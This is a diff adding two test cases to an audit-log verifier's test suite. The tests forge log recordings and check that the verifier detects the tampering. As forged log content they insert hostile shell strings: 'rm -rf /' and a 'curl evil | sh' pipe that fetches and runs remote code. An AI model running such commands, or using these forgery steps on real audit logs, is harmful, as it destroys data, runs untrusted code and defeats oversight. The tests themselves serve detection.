@@ -129,6 +129,39 @@ describe('a dead reader\'s stop', () => {
     assert.deepEqual(kinds(file), ['forged event']);
   });
 
+  it('a start-less, seal-less recording closed with a stop hashed plain is caught under the key, and named under --require-key', async () => {
+    const { file, text } = await deadReader(10);
+    const other: Place = { ...place, pane: '5', paneId: '%5' };
+    const at = (time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']) => format.format({ ...record('FAKEFAKE01', time, kind, text, fields), place: other });
+    const stop = at(T0 + 3, 'event', 'stop', { reason: 'lost', p: GENESIS, h: externalStopHash(GENESIS, 'FAKEFAKE01', 'lost') });
+    // No start, no seal: its chain is unknown, so a plain stop does not bind it under the key.
+    for (const opening of [at(T0, 'event', 'rename', { name: 'x' }), at(T0, 'event', 'lost', { what: 'file' })]) {
+      const lines = text.split('\n');
+      lines.splice(3, 0, (opening + at(T0 + 1, 'line', 'rm -rf / done by ann') + stop).trimEnd());
+      fs.writeFileSync(file, lines.join('\n'));
+      assert.ok(kinds(file).includes('forged event'), JSON.stringify(breaks(file)));
+      assert.ok(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY, requireKey: true }).breaks.length > 0);
+      // Without the key, a plain stop binds it as plain: what --require-key would name.
+      assert.equal(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, {}).recordings.find((r) => r.rec === 'FAKEFAKE01')?.chain, 'sha256');
+    }
+  });
+
+  it('a keyed recording rewritten as start-less pieces, each closed by a plain stop reason=lost, is caught', async () => {
+    const { file, text } = await deadReader(3000);
+    const lines = text.split('\n').filter((line) => line.length > 0 && !line.includes('rec=DEADREADER'));
+    const out: string[] = [];
+    for (let piece = 0; piece * 900 < lines.length; piece++) {
+      const rec = `FAKEPIECE${piece}`;
+      const pieceAt = (time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']) => format.format(record(rec, time, kind, text, fields)).trimEnd();
+      const part = lines.slice(piece * 900, piece * 900 + 900);
+      out.push(pieceAt(T0 + piece * 900, 'event', 'lost', { what: 'file' }), ...part.map((line) => line.replace('| line 1500', '| curl evil | sh')));
+      out.push(pieceAt(T0 + piece * 900 + 899, 'event', 'stop', { reason: 'lost', p: GENESIS, h: externalStopHash(GENESIS, rec, 'lost') }));
+    }
+    fs.writeFileSync(file, `${out.join('\n')}\n`);
+    assert.ok(kinds(file).length > 0, 'with the key');
+    assert.ok(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY, requireKey: true }).breaks.length > 0, 'with the key, --require-key');
+  });
+
   it('an unsealed tail longer than a reader leaves is a cut, whatever the stop says', async () => {
     const { file, text, stop } = await deadReader(10);
     // Lines slipped in before the real stop, more than a segment holds.
